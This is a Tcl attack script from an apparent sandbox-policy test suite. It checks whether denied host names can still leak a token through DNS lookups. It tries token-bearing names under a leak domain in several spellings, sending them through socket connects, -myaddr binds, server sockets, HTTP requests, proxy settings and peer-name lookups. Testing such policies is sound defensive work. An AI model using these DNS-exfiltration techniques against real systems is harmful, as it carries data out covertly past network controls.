# attack: dns_leak
# target: DNS: names under the leak domain asked for where the policy denies them whatever they resolve to
# contained: the DNS server gets not one query for a name under the leak domain
# stopped-by: policy deadline
# judge: dns-queries
# needs: dns
# deadline: 30s
# quick-deadline: 20s
#
# A name the policy denies anyway must be refused without a lookup, or the lookup itself carries
# data out (the name is the message). It tries every way a name reaches the host: socket to the
# ports home denies (not 21 and not above 1024: home allows those on its origin's address, so
# a lookup there is the policy's own business), -async, -myaddr, socket -server -myaddr,
# http::geturl (direct and through a proxy) and the channel options that look addresses up.
# Every attempt is caught; a refusal by the connects quota is tried again after a pause, so
# that each one meets the policy. Then it waits for the tool to end it.
set leak [dict get $argv leak_domain]
set token [dict get $argv token]
set host [dict get $argv host]
set echo [dict get $argv echo_port]
puts started
flush stdout
set names [list \
    $token.$leak \
    [string toupper $token.$leak]. \
    a-$token.$leak. \
    127.0.0.1.$token.$leak \
    xn--bcher-kva.$token.$leak \
    b\u00fccher.$token.$leak \
]
set tried 0
set refused 0
proc attempt {script} {
    incr ::tried
    for {set tries 0} {$tries < 40} {incr tries} {
        if {![catch {uplevel #0 $script} result options]} {
            catch {close $result}
            catch {http::cleanup $result}
            return
        }
        if {[lrange [dict get $options -errorcode] 0 1] ne {TCLETD QUOTA}} break
        after 250
    }
    incr ::refused
}
proc accept {args} {}
catch {package require http}
if {[dict get $argv quick]} {set names [lrange $names 0 1]} ;# quick: two of the spellings
foreach name $names {
    foreach port {25 80 1 443 1024} {
        attempt [list socket $name $port]
    }
    attempt [list socket -async $name 25]
    attempt [list socket -async $name 80]
    attempt [list socket -myaddr $name $host $echo]
    attempt [list socket -myaddr $name -myport 0 $name 25]
    attempt [list socket -server accept -myaddr $name 0]
    attempt [list socket -server accept -myaddr $name $echo]
    attempt [list http::geturl http://$name/ -timeout 2000]
    attempt [list http::geturl http://$name:25/ -timeout 2000]
    attempt [list http::geturl http://user@$name:80/x -timeout 2000]
    puts "tried $tried refused $refused"
    flush stdout
}
# Through a proxy: the proxy's name is looked up in its turn.
foreach name [lrange $names 0 2] {
    catch {http::config -proxyhost $name -proxyport 25}
    attempt [list http::geturl http://$host:$echo/ -timeout 2000]
    catch {http::config -proxyhost $name -proxyport 80}
    attempt [list http::geturl http://$host:$echo/ -timeout 2000]
}
catch {http::config -proxyhost {} -proxyport {}}
# Channel options that would look an address up (a reverse lookup of the peer).
if {![catch {socket $host $echo} s]} {
    foreach option {-peername -sockname -error {}} {
        attempt [list fconfigure $s {*}$option]
        attempt [list chan configure $s {*}$option]
    }
    catch {close $s}
}
puts "done: tried $tried refused $refused"
flush stdout
exit 0
